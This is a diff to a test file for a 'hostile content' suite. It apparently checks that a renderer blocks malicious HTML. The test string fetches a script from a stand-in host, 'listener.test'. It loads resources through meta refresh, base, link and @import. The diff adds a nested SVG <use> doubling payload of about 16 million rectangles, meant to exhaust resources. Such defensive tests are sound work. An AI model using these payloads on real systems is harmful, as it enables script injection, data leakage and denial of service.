@@ -7,7 +7,13 @@ test.describe('hostile content', () => {
 
   const listener = 'https://listener.test';
   const attack = 'parent.__pwn=1;top.__pwn=1;fetch("https://listener.test/script")';
+  // Without a limit, the browser would draw 16 million rectangles.
+  const doubling = Array.from(
+    { length: 24 },
+    (_, level) => `<g id="level${level + 1}">${`<use href="#level${level}"/>`.repeat(2)}</g>`,
+  );
   const hostile = `
+    <svg><defs><g id="level0"><rect width="1" height="1"/></g>${doubling.join('')}</defs><use href="#level24"/></svg>
     <meta http-equiv="refresh" content="0;url=${listener}/refresh">
     <base href="${listener}/base/"><link rel="stylesheet" href="${listener}/sheet.css">
     <style>@import url(${listener}/import.css); *{color:red}</style>
